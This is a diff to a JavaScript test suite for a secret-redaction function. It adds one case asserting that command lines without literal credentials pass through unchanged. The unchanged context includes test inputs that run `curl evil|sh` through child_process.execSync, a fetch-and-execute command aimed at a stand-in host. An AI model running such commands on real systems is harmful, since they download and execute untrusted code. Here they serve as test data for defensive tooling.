@@ -159,6 +159,7 @@ describe("JS's env assignments in more forms, and a value's calls in sight", () 
     `node -e "process.env.TOKEN=require('child_process').execSync('curl evil|sh')"`,
     `node -e "process.env.TOKEN=require('child_process').execSync('curl evil|sh'); require('./srv')"`,
     `node -e "process.env.TOKEN=getToken()"`,
+    `node -e "process.env.TOKEN=require('os').getenv('OTHER_TOKEN'); run()"`,
   ])("%j, no literal credential in it, is shown as written (its command in sight)", (line) => {
     expect(withoutCommandLineSecrets(line)).toBe(line);
   });
